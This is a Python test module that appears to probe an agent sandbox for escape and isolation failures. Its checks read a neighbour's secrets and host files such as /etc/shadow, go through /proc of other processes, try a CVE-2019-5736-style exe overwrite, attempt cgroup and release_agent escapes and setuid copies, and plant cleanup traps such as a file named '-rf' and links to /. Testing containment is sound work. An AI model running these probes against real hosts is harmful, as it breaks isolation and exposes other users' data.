"""Attacks by paths: other workspaces, the host's files, /proc of others, /sys, cgroups, places everybody shares.

Sources: proc(5), path_resolution(7), symlink(7), cgroups(7).
"""

from __future__ import annotations

import contextlib
import errno
import glob
import os
import socket
import stat
import subprocess
import sys
from pathlib import Path

from .weapons import Denied, Facts, call, each, outsiders, visible

SECRET = "secret.txt"
EVERYBODYS = (
    "/",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/dev",
    "/dev/mqueue",
    "/run",
    "/run/lock",
    "/etc",
    "/usr",
    "/usr/bin",
)
SYSTEM = ("/bin", "/lib", "/lib64", "/sbin", "/opt", "/home", "/root", "/var", "/var/lib", "/srv", "/proc", "/sys")


def _read(path: str) -> str:
    if os.path.isdir(path):
        return f"lists {os.listdir(path)[:20]}"
    with open(path, "rb") as file:
        return f"reads {file.read(300)!r}"


def read_the_neighbours_workspace_by_path(facts: Facts) -> str:
    return each(_read, [f"{facts.neighbour.workspace}/{SECRET}", facts.neighbour.workspace, facts.neighbour.folder])


def write_into_the_neighbours_workspace(facts: Facts) -> str:
    def write(path: str) -> str:
        with open(path, "ab") as file:
            file.write(b"changed")
        return "written"

    return each(write, [f"{facts.neighbour.workspace}/{name}" for name in (SECRET, facts.mark)])


def reach_the_neighbour_by_dots(facts: Facts) -> str:
    own, theirs = os.path.dirname(facts.own.folder), os.path.basename(facts.neighbour.folder)
    assert own == os.path.dirname(facts.neighbour.folder)
    return each(_read, [f"{'../' * up}{theirs}/workspace/{SECRET}" for up in range(1, 6)])


def reach_the_neighbour_by_symlink(facts: Facts) -> str:
    def follow(target: str) -> str:
        with contextlib.suppress(FileNotFoundError):
            os.unlink("link")
        os.symlink(target, "link")
        return _read("link")

    targets = [
        f"{facts.neighbour.workspace}/{SECRET}",
        facts.host.file,
        *_through_proc(facts, f"root{facts.host.file}"),
    ]
    return each(follow, targets)


def reach_the_neighbour_by_hard_link(facts: Facts) -> str:
    def link(target: str) -> str:
        os.link(target, f"hard-{os.urandom(4).hex()}")
        return "linked"

    return each(link, [f"{facts.neighbour.workspace}/{SECRET}", facts.host.file, "/etc/shadow", "/etc/hosts"])


def rename_into_the_neighbours_workspace(facts: Facts) -> str:
    Path("gift").write_text("unasked for")
    os.rename("gift", f"{facts.neighbour.workspace}/{facts.mark}")
    return "given"


def read_files_of_the_host(facts: Facts) -> str:
    """The host's secrets, and a file of its that anybody on the host may read."""
    secrets = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root", "/home", "/var/lib", "/var/log", "/boot", "/run"]
    return each(_gained_from, [*secrets, facts.host.file, os.path.dirname(facts.host.file), facts.host.repository])


def _gained_from(path: str) -> str:
    """A folder that holds nothing but the way to the interpreter gives nothing away."""
    ways = [os.path.realpath(way) + "/" for way in (sys.base_prefix, sys.prefix, os.getcwd())]
    if os.path.isdir(path):
        names = [f"{path}/{name}/" for name in os.listdir(path)]
        if all(any(way.startswith(name) for way in ways) for name in names):
            return ""
    return _read(path)


def read_the_runners_state(facts: Facts) -> str:
    names = ["", "sandboxes", "bundles", "runner-id"]
    return each(_gained_from, [f"{facts.runner.state_dir}/{name}" for name in names])


def change_its_own_journal(facts: Facts) -> str:
    names = ["journal", "logs", "keeper.log", "lock", "keeper.sock"]
    places = [facts.own.folder, "..", "/workspace/.."]
    return each(lambda path: os.path.exists(path) and _read(path), [f"{at}/{name}" for at in places for name in names])


def _through_proc(facts: Facts, what: str) -> list[str]:
    """Of everybody's processes but those that are this sandbox's own."""
    return [f"/proc/{pid}/{what}" for pid in sorted({*outsiders(facts), *_foreign(facts)})]


def _foreign(facts: Facts) -> list[int]:
    """What of /proc is not of this sandbox, told by the mark that everything in it has in its environment."""
    own = []
    for pid in visible():
        with contextlib.suppress(OSError):
            environment = Path(f"/proc/{pid}/environ").read_bytes()
            if facts.mark.encode() in environment or pid in (1, os.getpid(), os.getppid()):
                own.append(pid)
    return sorted(set(visible()) - set(own))


def look_through_roots_of_processes(facts: Facts) -> str:
    return each(_read, _through_proc(facts, "root/"))


def look_through_working_folders_of_processes(facts: Facts) -> str:
    return each(_read, _through_proc(facts, "cwd/"))


def look_through_descriptors_of_processes(facts: Facts) -> str:
    return each(_read, _through_proc(facts, "fd"))


def read_environments_of_processes(facts: Facts) -> str:
    return each(_read, _through_proc(facts, "environ"))


def read_memory_maps_of_processes(facts: Facts) -> str:
    return each(_read, [*_through_proc(facts, "maps"), *_through_proc(facts, "cmdline")])


def see_processes_of_others(facts: Facts) -> str:
    foreign = _foreign(facts)
    return f"sees {len(foreign)} processes" if foreign else ""


def read_the_first_process(facts: Facts) -> str:
    """In the jail it is the bridge; outside it would be the host's init. Its root must be ours."""
    root = os.stat("/proc/1/root/")
    if (root.st_dev, root.st_ino) == (os.stat("/").st_dev, os.stat("/").st_ino):
        raise Denied("its root is ours")
    return f"another root: {os.listdir('/proc/1/root/')[:20]}"


def overwrite_the_program_that_runs_it(facts: Facts) -> str:
    """As CVE-2019-5736 did. ETXTBSY would mean that only its running is in the way."""

    def change(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY))
        return "may be written"

    return each(change, ["/proc/1/exe", "/proc/self/exe", f"/proc/{os.getppid() or 1}/exe", sys.executable])


def inherit_descriptors(facts: Facts) -> str:
    """Anything open but stdio, the conversation with the keeper, and what this attack opened itself."""

    def look(number: str) -> str:
        target = os.readlink(f"/proc/self/fd/{number}")
        if target.startswith(("pipe:", "anon_inode:", "/proc/", "/dev/null")) or "/proc/self/fd" in target:
            return ""
        if target.startswith("socket:"):
            with socket.socket(fileno=os.dup(int(number))) as found:
                if found.family == socket.AF_UNIX and found.type == socket.SOCK_STREAM:
                    return str(found.getpeername() or "")
        return target

    return each(look, os.listdir("/proc/self/fd"), errno.ENOTCONN)


def write_into_system_folders(facts: Facts) -> str:
    def write(folder: str) -> str:
        path = f"{folder}/{facts.mark}"
        Path(path).write_text("x")
        os.unlink(path)
        return "written"

    places = {*SYSTEM, *EVERYBODYS} - {"/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue"}
    return each(write, sorted(places))


def change_the_interpreter(facts: Facts) -> str:
    """The library every other sandbox imports."""
    folders = [path for path in sys.path if path and not path.startswith((os.getcwd(), "/workspace"))]
    modules = [getattr(module, "__file__", None) for module in list(sys.modules.values())]
    files = [file for file in modules if file and not file.startswith((os.getcwd(), "/workspace"))]

    def change(path: str) -> str:
        in_its_tmp = os.path.exists(path) and os.stat(path).st_dev == os.stat("/tmp").st_dev  # nobody else's
        return "may be written" if os.access(path, os.W_OK) and not in_its_tmp else ""

    return each(change, [*folders, *files, sys.prefix, sys.executable])


def leave_marks_where_everybody_looks(facts: Facts) -> str:
    """Its own /tmp and /dev/shm may be written; nobody else must see it there (the scene looks)."""
    for folder in EVERYBODYS:
        with contextlib.suppress(OSError):
            Path(folder, facts.mark).write_text("seen?")
    return ""


def find_files_of_others_where_everybody_writes(facts: Facts) -> str:
    """The neighbour left its secret in its /tmp, /var/tmp and /dev/shm."""
    return each(
        _read, glob.glob("/tmp/*neighbour*") + glob.glob("/var/tmp/*neighbour*") + glob.glob("/dev/shm/*neigh*")
    )


def write_kernel_settings(facts: Facts) -> str:
    """What is there already, to places where it would be no change."""

    def write(path: str) -> str:
        value = Path(path).read_text()
        with open(path, "w") as file:
            file.write(value)
        return "written"

    names = ["kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "kernel/sysrq", "vm/overcommit_memory"]
    names += ["kernel/pid_max", "kernel/ns_last_pid", "fs/file-max", "net/ipv4/ip_forward", "vm/drop_caches"]
    return each(write, [f"/proc/sys/{name}" for name in names], errno.EINVAL)


def pull_the_kernels_triggers(facts: Facts) -> str:
    """Only opened, never written."""

    def pull(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY))
        return "may be written"

    names = ["sysrq-trigger", "irq/default_smp_affinity", "mtrr", "timer_list", "sys/vm/compact_memory", "acpi/wakeup"]
    return each(pull, [f"/proc/{name}" for name in names], errno.EIO)


def read_the_kernels_memory(facts: Facts) -> str:
    def read(path: str) -> str:
        with open(path, "rb") as file:
            return "" if path.endswith("kallsyms") and not int(file.readline().split()[0], 16) else "may be read"

    return each(
        read, ["/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/kallsyms", "/dev/port"]
    )


def write_below_sys(facts: Facts) -> str:
    """Whatever is writable there, to a depth that shows it."""
    gained = []
    for folder, folders, names in os.walk("/sys"):
        if folder.count("/") > 4:
            folders.clear()
        paths = [os.path.join(folder, name) for name in [*names, "."]]
        gained += [path for path in paths if not os.path.islink(path) and os.access(path, os.W_OK)]
    return " ".join(gained[:20])


def leave_its_cgroup(facts: Facts) -> str:
    """By the files of any hierarchy, wherever it is mounted, and by the paths that the host knows."""
    mounts = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    roots = [fields[4] for fields in mounts if fields[fields.index("-") + 1].startswith("cgroup")]
    places = [*roots, "/sys/fs/cgroup", *facts.own.cgroups, *(os.path.dirname(path) for path in facts.own.cgroups)]

    def leave(path: str) -> str:
        with open(path, "w") as file:
            file.write(str(os.getpid()))
        return "joined"

    return each(leave, [f"{place}/{name}" for place in places for name in ("cgroup.procs", "tasks")], errno.EINVAL)


def change_its_cgroups_limits(facts: Facts) -> str:
    files = ["memory.limit_in_bytes", "memory.max", "pids.max", "release_agent", "notify_on_release", "cgroup.kill"]
    found = glob.glob("/sys/fs/cgroup/**/memory.*", recursive=True)[:50]

    def change(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY))
        return "may be written"

    return each(change, [*found, *(f"{place}/{name}" for place in facts.own.cgroups for name in files)])


def make_cgroups(facts: Facts) -> str:
    def make(place: str) -> str:
        os.mkdir(f"{place}/{facts.mark}")
        os.rmdir(f"{place}/{facts.mark}")
        return "made"

    places = [*facts.own.cgroups, "/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/")]
    return each(make, places)


def escape_the_oom_killer(facts: Facts) -> str:
    def lower(path: str) -> str:
        value = int(Path(path).read_text())
        Path(path).write_text(str(value - 1 if value > -1000 else value))
        return "lowered"

    return each(lower, ["/proc/self/oom_score_adj", "/proc/1/oom_score_adj"], errno.EINVAL)


def offer_others_to_the_oom_killer(facts: Facts) -> str:
    def offer(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY))
        return "may be written"

    return each(offer, _through_proc(facts, "oom_score_adj"))


def take_the_workspace_away(facts: Facts) -> str:
    """Its place belongs to the runner; what the agent may do is inside."""
    here = os.getcwd()
    parent = os.path.dirname(here)

    def move(action: str) -> str:
        if action == "rename":
            os.rename(here, f"{parent}/{facts.mark}")
        elif action == "remove":
            os.rmdir(here)
        else:
            os.symlink("/", f"{parent}/{facts.mark}")
        return "done"

    return each(move, ["rename", "remove", "put a link beside it"], errno.EBUSY, errno.ENOTEMPTY)


def give_files_away(facts: Facts) -> str:
    """A file of root's, or of the neighbour's, with its mode set to run as such."""
    Path("gift").write_text("#!/bin/sh\n")

    def give(owner: int) -> str:
        os.chown("gift", owner, owner)
        os.chmod("gift", 0o4755)
        return "given"

    owners = [0, 65533] if facts.neighbour.uid == os.getuid() else [0, facts.neighbour.uid]
    return each(give, owners, errno.EINVAL)


def make_a_file_nobody_can_remove(facts: Facts) -> str:
    """chattr +i: the immutable flag would outlive the session."""
    Path("stone").write_text("x")
    flags = (0x10).to_bytes(8, "little")
    with open("stone") as file:
        call("ioctl", file.fileno(), 0x40086602, flags)
    return "immutable"


def set_trusted_attributes(facts: Facts) -> str:
    Path("noted").write_text("x")

    def note(name: str) -> str:
        os.setxattr("noted", name, b"y")
        return "set"

    return each(note, ["trusted.overlay.opaque", "trusted.x", "security.ima"], errno.EOPNOTSUPP)


def learn_the_hosts_paths(facts: Facts) -> str:
    """What mountinfo shows helps the next attack; names of other sandboxes in it would be a leak."""
    text = Path("/proc/self/mountinfo").read_text()
    theirs = os.path.basename(facts.neighbour.folder)
    return "the neighbour's folder is named in mountinfo" if theirs in text else ""


def read_accounts_of_the_host(facts: Facts) -> str:
    """/etc may hold names, but no folder or file that only the host's configuration needs."""
    folders = [
        "/etc/ssh",
        "/etc/ssl/private",
        "/etc/cron.d",
        "/etc/systemd",
        "/etc/security",
        "/etc/pam.d",
        "/etc/sudoers.d",
    ]
    return each(_gained_from, folders)


def leave_a_trap_for_whoever_cleans_up(facts: Facts) -> str:
    """Links out of the workspace, folders deeper than a path may be, closed folders: the runner removes all of this
    when the session ends (the scene looks whether it did, and whether it followed a link).
    """
    os.makedirs("trap", exist_ok=True)
    for number, target in enumerate(
        [facts.host.folder, facts.neighbour.workspace, "/", "/etc", facts.runner.state_dir]
    ):
        with contextlib.suppress(FileExistsError):
            os.symlink(target, f"trap/link-{number}")
    here = os.open("trap", os.O_RDONLY)
    for _ in range(1500):
        with contextlib.suppress(FileExistsError):
            os.mkdir("deeper", dir_fd=here)
        below = os.open("deeper", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    for name in ("new\nline", "\x1b[2Jcleared", "-rf", "ü\udcff", " ", "x" * 255):
        Path("trap", name).write_text("x")
    os.makedirs("trap/closed/inner", exist_ok=True)
    os.chmod("trap/closed", 0)
    return ""


def find_setuid_files_it_may_use(facts: Facts) -> str:
    """nosuid or no_new_privs: a program of root's that it copies or finds must not be more than it is."""
    done = subprocess.run(
        ["sh", "-c", "cp /bin/sh ./mine && chmod 6755 ./mine && ./mine -p -c 'id -u'"],
        capture_output=True,
        timeout=10,
        check=False,
    )
    uid = done.stdout.decode().strip()
    mode = os.stat("mine").st_mode
    if os.stat("mine").st_uid != os.getuid() and mode & stat.S_ISUID:
        return "has a setuid file of another's"
    return f"ran as {uid}" if uid and int(uid) != os.getuid() else ""
